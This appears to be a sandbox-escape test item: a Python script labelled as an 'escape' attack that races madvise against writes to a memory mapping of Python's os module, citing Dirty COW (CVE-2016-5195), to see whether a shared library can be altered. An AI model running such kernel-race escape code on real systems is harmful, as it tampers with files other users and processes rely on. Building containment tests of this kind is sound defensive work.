# /// attack
# kind = "escape"
# aim = "change a library for everyone by a mapping of it"
# outcome = "exited"
# ///
import ctypes
import ctypes.util
import mmap
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
with open(os.__file__, "rb") as file:
    before = file.read()
    try:
        mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        print("managed a shared mapping to write")
    except OSError:
        pass
    shared = libc.mmap(None, 4096, 1, 1, file.fileno(), 0)
    if libc.mprotect(shared, 4096, 3) == 0:
        print("managed to make a shared mapping writable")
    private = libc.mmap(None, 4096, 3, 2, file.fileno(), 0)
    ending = threading.Event()

    def forget():
        while not ending.is_set():
            libc.madvise(private, 4096, 4)  # MADV_DONTNEED, in a race with the write (CVE-2016-5195)

    thread = threading.Thread(target=forget)
    thread.start()
    for _ in range(2000):
        ctypes.memmove(private, b"# attacked", 10)
    ending.set()
    thread.join()
with open(os.__file__, "rb") as file:
    if file.read() != before:
        print("managed to change a library")
print("contained")
